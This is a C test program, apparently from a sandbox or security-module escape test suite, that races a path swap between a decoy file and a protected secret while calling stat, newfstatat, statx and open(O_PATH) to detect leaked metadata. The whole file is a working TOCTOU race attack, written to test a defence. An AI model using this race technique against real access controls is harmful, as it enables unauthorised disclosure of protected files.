/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 2: path race on stat. As escape-race-open, but the main thread
 * calls newfstatat, stat, statx, and open(O_PATH) followed by fstat (an
 * O_PATH descriptor is also an existence oracle and a handle for fchdir
 * and *at calls): the secret's metadata (file_getattr on a protected path)
 * is denied, so any result whose inode is not the decoy's is a leak.
 */
#include <pthread.h>

#include "escape-common.h"

int main(void)
{
	static char path[PATH_MAX];
	struct esc_flip f = { 0 };
	struct stat dst;
	pthread_t t;
	unsigned long tries = 0, decoys = 0, errors = 0;
	size_t at;
	double end;

	esc_init("race-stat", "flip the path between the decoy and the secret during newfstatat/stat/statx");
	if (stat(esc_decoy, &dst) < 0)
		esc_setup_error("cannot stat the decoy: %m");
	esc_control("stat of the decoy: inode %lu", (unsigned long)dst.st_ino);
	at = esc_diff_at(esc_decoy, esc_secret_alt);
	snprintf(path, sizeof(path), "%s", esc_decoy);
	f.at = &path[at];
	f.a = esc_decoy[at];
	f.b = esc_secret_alt[at];
	if (pthread_create(&t, NULL, esc_flipper, &f))
		esc_setup_error("pthread_create failed");
	end = esc_now() + esc_seconds;
	while (esc_now() < end && !esc_escaped) {
		struct stat st;
		struct statx sx;
		unsigned long ino = 0;
		const char *how;
		int r;

		memset(&st, 0, sizeof(st));
		memset(&sx, 0, sizeof(sx));
		switch (tries++ % 4) {
		case 0:
			how = "newfstatat";
			r = (int)syscall(SYS_newfstatat, AT_FDCWD, path, &st, 0);
			ino = st.st_ino;
			break;
		case 1:
			how = "stat";
			r = (int)syscall(SYS_stat, path, &st);
			ino = st.st_ino;
			break;
		case 2:
			how = "statx";
			r = (int)syscall(SYS_statx, AT_FDCWD, path, 0,
					 STATX_BASIC_STATS, &sx);
			ino = sx.stx_ino;
			break;
		default:
			how = "open(O_PATH) + fstat";
			r = open(path, O_PATH | O_CLOEXEC);
			if (r >= 0) {
				int fd = r;

				r = fstat(fd, &st);
				ino = st.st_ino;
				close(fd);
			}
			break;
		}
		if (r < 0) {
			errors++;
			continue;
		}
		if (ino != dst.st_ino) {
			char msg[64];

			snprintf(msg, sizeof(msg), "inode %lu", ino);
			esc_escape("stat race (%s): got the metadata of another file (inode %lu, size %lld)",
				   how, ino,
				   (long long)(st.st_size ? st.st_size : (off_t)sx.stx_size));
			esc_loot(msg, strlen(msg));
		} else
			decoys++;
	}
	atomic_store(&f.stop, 1);
	pthread_join(t, NULL);
	esc_say("%lu stats, %lu of the decoy, %lu refused, %lu flips", tries,
		decoys, errors, f.flips);
	if (decoys)
		esc_control("%lu racing stats of the decoy were served", decoys);
	return esc_finish();
}
